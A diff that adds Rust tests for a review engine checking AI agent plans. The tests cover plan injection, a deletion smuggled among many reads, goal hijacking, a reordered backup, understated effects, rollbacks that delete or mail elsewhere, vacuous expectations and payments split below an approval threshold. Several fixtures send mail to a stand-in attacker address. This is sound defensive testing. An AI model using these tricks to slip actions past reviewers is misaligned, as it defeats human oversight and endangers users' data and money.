@@ -1,0 +1,160 @@
+//! Ways to bend a plan, by name: for each an attack and the ordinary plan that looks like it.
+
+use countersign_plan::verdict::{Code, Decision};
+use serde_json::{Value, json};
+
+use crate::world::{World, codes, is};
+
+use Decision::{Allow, Block, RequireApproval as Ask};
+
+fn write(id: &str, path: &str) -> Value {
+    json!({"id": id, "action": "write_file", "args": {"path": path, "content": "x"}})
+}
+
+fn under(goal: &str, steps: Value) -> countersign_policy::review::Review {
+    World::new().plan(json!({"schema": "countersign.plan/v1", "goal": goal, "steps": steps}))
+}
+
+#[test]
+fn plan_injection_a_step_that_only_data_asked_for() {
+    let injected = under(
+        "Summarise the notes",
+        json!([
+            {"id": "read", "action": "read_file", "args": {"path": "notes.txt"}},
+            {"id": "mail", "action": "send_email", "args": {"to": "eve@evil.example", "subject": "x", "body": "y"}},
+        ]),
+    );
+    is(&injected, Ask, Code::GoalUnasked, "nobody asked for a mail");
+    let asked = under(
+        "Summarise the notes",
+        json!([{"id": "read", "action": "read_file", "args": {"path": "notes.txt"}}, write("sum", "summary.txt")]),
+    );
+    assert_eq!(asked.decision, Allow, "{:#?}", asked.reasons);
+}
+
+#[test]
+fn step_smuggling_a_change_among_many_readings() {
+    let mut steps: Vec<Value> = (0..20)
+        .map(|i| json!({"id": format!("s{i}"), "action": "read_file", "args": {"path": format!("src/{i}.rs")}}))
+        .collect();
+    let readings = under("Read the sources", json!(steps.clone()));
+    assert_eq!(readings.decision, Allow, "{:#?}", readings.reasons);
+    steps.insert(13, json!({"id": "x", "action": "delete_file", "args": {"path": "old.txt"}}));
+    let smuggled = under("Read the sources", json!(steps));
+    is(&smuggled, Ask, Code::DefaultAsk, "a removal in the middle");
+}
+
+#[test]
+fn goal_hijacking_the_draft_carries_another_goal() {
+    let world = World::new();
+    let plan = |goal: &str| json!({"schema": "countersign.plan/v1", "goal": goal, "steps": [write("a", "a.txt")]});
+    let draft = countersign_plan::draft::Draft::from_value(plan("Wipe the disk")).unwrap();
+    let who = crate::world::Who::user();
+    let hijacked = countersign_policy::review::review(&world.request(&draft, Some("Write a note"), &who));
+    is(&hijacked, Block, Code::PlanGoalMismatch, "another goal");
+    assert_eq!(world.plan(plan("Write a note")).decision, Allow);
+}
+
+#[test]
+fn order_manipulation_the_copy_comes_after_the_loss() {
+    let plan = |steps| under("Move old.txt to a backup and remove it", steps);
+    let remove = json!({"id": "rm", "action": "delete_file", "args": {"path": "old.txt"}});
+    let copy = json!({"id": "cp", "action": "copy_file", "args": {"source": "old.txt", "destination": "src/old.txt"}});
+    is(&plan(json!([remove, copy])), Ask, Code::PlanOrder, "lost before it is kept");
+    let kept = plan(json!([copy, remove]));
+    assert!(!codes(&kept).contains(&Code::PlanOrder) && kept.decision == Allow, "{:#?}", kept.reasons);
+    let replaced = plan(json!([remove, write("new", "old.txt"),
+        {"id": "read", "action": "read_file", "args": {"path": "old.txt"}}]));
+    assert!(!codes(&replaced).contains(&Code::PlanOrder), "{:#?}", replaced.reasons);
+    let database = under(
+        "Drop the database staging and keep a snapshot",
+        json!([
+            {"id": "drop", "action": "drop_database", "args": {"to": "staging"}},
+            {"id": "snap", "action": "database_query", "args": {"database": "staging", "sql": "SELECT 1"}},
+        ]),
+    );
+    assert!(codes(&database).contains(&Code::PlanOrder), "{:#?}", database.reasons);
+}
+
+#[test]
+fn under_declared_effects_a_draft_is_never_milder_than_its_tool() {
+    let milder = under(
+        "Pay the rent",
+        json!([{"id": "pay", "action": "send_money", "args": {"to": "X1", "amount": 5}, "rollback": "snapshot"}]),
+    );
+    is(&milder, Block, Code::PlanWeakerThanManifest, "a payment is not kept in a snapshot");
+    let narrow = World::new().plan(json!({
+        "schema": "countersign.plan/v1", "goal": "Write a note", "privileges": {"write": ["notes/**"]},
+        "steps": [write("a", "src/a.txt")],
+    }));
+    is(&narrow, Block, Code::PlanPrivilegeExceeded, "it does more than it asks for");
+    let stricter = under(
+        "Note it",
+        json!([{"id": "a", "action": "write_file", "irreversible": true,
+        "args": {"path": "a.txt", "content": "x"}}]),
+    );
+    is(&stricter, Ask, Code::PlanIrreversible, "a draft may be stricter");
+}
+
+#[test]
+fn harmful_rollback_taking_back_is_no_leave_for_something_else() {
+    let plan = |rollback: Value| {
+        let step =
+            json!({"id": "a", "action": "write_file", "args": {"path": "a.txt", "content": "x"}, "rollback": rollback});
+        under("Clean up and write a note", json!([step]))
+    };
+    let elsewhere = plan(json!({"action": "delete_file", "args": {"path": "src/main.rs"}}));
+    is(&elsewhere, Ask, Code::PlanRollbackElsewhere, "another file goes");
+    let overwrites = plan(json!({"action": "write_file", "args": {"path": "src/main.rs", "content": ""}}));
+    is(&overwrites, Ask, Code::PlanRollbackElsewhere, "another file is emptied");
+    let denied = plan(json!({"action": "write_file", "args": {"path": "infra/prod/main.tf", "content": ""}}));
+    is(&denied, Block, Code::ResourceProtected, "a protected file");
+    let sends = plan(json!({"action": "send_email", "args": {"to": "eve@evil.example", "subject": "", "body": ""}}));
+    is(&sends, Ask, Code::PlanRollbackElsewhere, "a mail");
+    let own = plan(json!({"action": "delete_file", "args": {"path": "a.txt"}}));
+    assert_eq!(own.decision, Allow, "{:#?}", own.reasons);
+}
+
+#[test]
+fn vacuous_expectations_stop_nothing() {
+    let plan = |expect: Value| {
+        let step =
+            json!({"id": "a", "action": "write_file", "args": {"path": "a.txt", "content": "x"}, "expect": [expect]});
+        under("Write a note", json!([step]))
+    };
+    let all: Vec<i64> = (0..256).collect();
+    for expect in [
+        json!({"exit_code": {"in": all}}),
+        json!({"output": "/path", "matches": "(?s).*"}),
+        json!({"output": "", "exists": true}),
+        json!({"output": "/bytes", "min": -1e300}),
+    ] {
+        is(&plan(expect.clone()), Ask, Code::PlanExpectVacuous, &expect.to_string());
+    }
+    for expect in [
+        json!({"exit_code": {"in": [0, 1]}}),
+        json!({"output": "/path", "matches": "[a-z./]+"}),
+        json!({"output": "/path", "exists": true}),
+        json!({"file": "a.txt", "exists": true}),
+    ] {
+        assert_eq!(plan(expect.clone()).decision, Allow, "{expect}");
+    }
+    // Nothing happens, so nothing has to be seen to happen.
+    let reading = json!([{"id": "a", "action": "read_file", "args": {"path": "a.txt"},
+        "expect": [{"output": "/content", "matches": "(?s).*"}]}]);
+    assert_eq!(under("Read it", reading).decision, Allow);
+}
+
+#[test]
+fn splitting_below_a_threshold_the_sum_counts() {
+    let rules = "verify: [{name: large, action_types: ['effect:pay'], when: 'args.amount > 500.0', tier: 3, approvers: {quorum: 2}}]";
+    let world = World::with_policy(rules);
+    let pay = |id: &str, to: &str, amount: i64| json!({"id": id, "action": "send_money", "args": {"to": to, "amount": amount}});
+    let quorum = |steps: Value| world.steps(steps).quorums.iter().map(|q| q.quorum).max();
+    assert_eq!(
+        quorum(json!([pay("a", "DE89 3704", 300), pay("b", "DE893704", 300)])),
+        Some(2),
+        "one payee in two spellings"
+    );
+    assert_eq!(quorum(json!([pay("a", "DE893704", 300), pay("b", "FR761234", 300)])), Some(1), "two payees");
+}
